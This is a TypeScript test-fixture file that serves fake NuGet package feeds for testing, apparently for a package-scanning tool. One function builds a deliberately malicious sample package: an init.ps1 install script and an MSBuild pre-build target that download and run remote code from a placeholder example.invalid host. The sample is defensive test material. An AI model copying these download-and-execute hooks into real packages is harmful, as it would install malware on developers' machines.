import { createHash } from "node:crypto";
import { type Files, nupkg } from "./archives.ts";
import type { FakeUpstream } from "./fake-upstream.ts";

/** One version of a NuGet package; `dependencies` are version ranges by id. */
export interface NuGetVersionFixture {
  readonly bytes: Buffer;
  readonly dependencies: Readonly<Record<string, string>>;
}

/** The service index of a fake upstream, at `/v3/index.json`. */
export function publishNuGetServices(upstream: FakeUpstream): void {
  const resources = [
    { "@id": `${upstream.url}/v3/registration/`, "@type": "RegistrationsBaseUrl/3.6.0" },
    { "@id": `${upstream.url}/v3/flat/`, "@type": "PackageBaseAddress/3.0.0" },
  ];
  upstream.say("/v3/index.json", json({ version: "3.0.0", resources }));
}

/** An ordinary package on a fake upstream: registration index with its page inside, flat container. Needs `publishNuGetServices`. */
export function publishNuGet(
  upstream: FakeUpstream,
  id: string,
  versions: Readonly<Record<string, NuGetVersionFixture>>,
): void {
  const lower = id.toLowerCase();
  const registration = `${upstream.url}/v3/registration/${lower}/index.json`;
  const flat = `/v3/flat/${lower}`;
  const items = Object.entries(versions).map(([version, { bytes, dependencies }]) => {
    const packageContent = `${upstream.url}${flat}/${version}/${lower}.${version}.nupkg`;
    const catalogEntry = {
      "@id": `${upstream.url}/v3/catalog/${lower}.${version}.json`,
      "@type": "PackageDetails",
      id,
      version,
      authors: "test",
      description: "test",
      listed: true,
      published: "2025-01-01T00:00:00.000+00:00",
      packageContent,
      packageHash: createHash("sha512").update(bytes).digest("base64"),
      packageHashAlgorithm: "SHA512",
      dependencyGroups: [{ dependencies: Object.entries(dependencies).map(([name, range]) => ({ id: name, range })) }],
    };
    return {
      "@id": `${upstream.url}/v3/registration/${lower}/${version}.json`,
      catalogEntry,
      packageContent,
      registration,
    };
  });
  const numbers = Object.keys(versions);
  const page = { "@id": `${registration}#page`, count: items.length, lower: numbers[0], upper: numbers.at(-1), items };
  upstream.say(`/v3/registration/${lower}/index.json`, json({ "@id": registration, count: 1, items: [page] }));
  upstream.say(`${flat}/index.json`, json({ versions: numbers }));
  for (const [version, { bytes }] of Object.entries(versions))
    upstream.say(`${flat}/${version}/${lower}.${version}.nupkg`, {
      headers: { "content-type": "application/octet-stream" },
      body: bytes,
    });
}

/** A package without code. */
export function plainNupkg(
  id: string,
  version: string,
  dependencies: Readonly<Record<string, string>> = {},
): NuGetVersionFixture {
  return { bytes: packed(id, version, dependencies, { "content/readme.txt": `${id} ${version}\n` }), dependencies };
}

/** A package whose install script and build file fetch and run a program, which every engine has to find malicious; inert, its hosts do not exist. */
export function maliciousNupkg(id: string, version: string): NuGetVersionFixture {
  const script = [
    "param($installPath, $toolsPath, $package, $project)",
    "$code = (New-Object Net.WebClient).DownloadString('https://example.invalid/next.ps1')",
    "Invoke-Expression $code",
  ];
  const fetch = "powershell -w hidden -c iwr https://example.invalid/a.exe -OutFile %TEMP%\\a.exe; start %TEMP%\\a.exe";
  const targets = `<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003">
  <Target Name="Prepare" BeforeTargets="Build"><Exec Command="${fetch}" /></Target>
</Project>`;
  const files = { "tools/init.ps1": `${script.join("\r\n")}\r\n`, [`build/${id}.targets`]: targets };
  return { bytes: packed(id, version, {}, files), dependencies: {} };
}

function packed(
  id: string,
  version: string,
  dependencies: Readonly<Record<string, string>>,
  files: Readonly<Record<string, string>>,
): Buffer {
  const needs = Object.entries(dependencies).map(([name, range]) => `<dependency id="${name}" version="${range}" />`);
  const nuspec = `<?xml version="1.0" encoding="utf-8"?>
<package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd"><metadata>
<id>${id}</id><version>${version}</version><authors>test</authors><description>test</description>
<dependencies>${needs.join("")}</dependencies>
</metadata></package>`;
  return nupkg({ name: id, version, nuspec, files: files satisfies Files });
}

function json(value: unknown): { headers: Record<string, string>; body: string } {
  return { headers: { "content-type": "application/json" }, body: JSON.stringify(value) };
}
